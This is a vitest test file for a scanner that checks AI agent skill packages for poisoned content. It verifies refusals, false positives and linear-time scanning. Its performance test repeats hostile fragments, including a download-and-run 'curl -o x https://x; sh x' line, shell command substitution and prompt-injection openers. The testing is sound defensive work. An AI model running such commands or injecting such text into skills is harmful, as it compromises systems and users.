import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { dirname, join } from "node:path"
import { fileURLToPath } from "node:url"

import { expect, test } from "vitest"

import { judgeSnippets } from "../../../src/app/skills/judge-snippets.ts"
import { bundledDirectories } from "../../../src/knowledge/skills/bundled-sync.ts"
import { scanSkill, type GuardReport } from "../../../src/knowledge/skills/guard/scan-skill.ts"
import { HARMLESS, POISONED, type HarmlessSkill } from "../../fixtures/skills/guard-corpus.ts"

const HEADER = "---\nname: sample\ndescription: A sample\n---\n\n"
const HEADER_LINES = HEADER.split("\n").length - 1

function scan({ text, file }: HarmlessSkill): GuardReport {
  const directory = mkdtempSync(join(tmpdir(), "hermes-guard-"))
  try {
    writeFileSync(join(directory, "SKILL.md"), file === undefined ? HEADER + text : `${HEADER}See ${file}.`)
    if (file !== undefined) {
      mkdirSync(dirname(join(directory, file)), { recursive: true })
      writeFileSync(join(directory, file), text)
    }
    return scanSkill(directory, judgeSnippets)
  } finally {
    rmSync(directory, { recursive: true })
  }
}

test("every poisoned skill is refused, and the line is named", () => {
  expect(POISONED.length).toBeGreaterThanOrEqual(40)
  const outcomes = POISONED.map((skill) => {
    const { verdict, findings } = scan(skill)
    const line = skill.line + (skill.file === undefined ? HEADER_LINES : 0)
    return {
      name: skill.name,
      verdict,
      isNamed: findings.some((finding) => finding.id === skill.id && finding.line === line),
      findings: findings.map(({ id, line: at }) => `${id}:${at}`),
    }
  })
  expect(outcomes.filter(({ isNamed }) => !isNamed)).toEqual([])
  expect(outcomes.map(({ name, verdict }) => [name, verdict])).toEqual(
    POISONED.map(({ name, verdict }) => [name, verdict]),
  )
})

test("no harmless skill is stopped", () => {
  expect(HARMLESS.length).toBeGreaterThanOrEqual(40)
  const stopped = HARMLESS.map((skill) => ({ name: skill.name, ...scan(skill) })).filter(
    ({ verdict }) => verdict !== "safe",
  )
  expect(stopped.map(({ name, findings }) => [name, findings])).toEqual([])
})

test("no bundled skill is stopped", async () => {
  const directories = await bundledDirectories(fileURLToPath(new URL("../../../skills", import.meta.url)))
  expect(directories.length).toBeGreaterThanOrEqual(19)
  const findings = directories.flatMap((directory) => scanSkill(directory, judgeSnippets).findings)
  expect(findings.filter(({ severity }) => severity === "critical" || severity === "high")).toEqual([])
})

/**
 * Repeats the beginnings of what the guard looks for. Anything that is not linear would take minutes here, so the time limit of the test
 * runner fails it.
 */
test("a megabyte of hostile text is scanned in linear time", () => {
  const beginnings = [
    ">/tmp/",
    "`$(",
    "cat  ",
    "translate into ",
    "<div <!-- ",
    "```\n",
    "`curl x` ",
    "curl -o x https://x; sh x\n",
    "$(((",
  ]
  for (const beginning of beginnings) {
    const text = beginning.repeat(Math.ceil(1_048_576 / beginning.length))
    expect(scan({ name: beginning, text }).findings.length).toBeGreaterThan(0)
  }
})
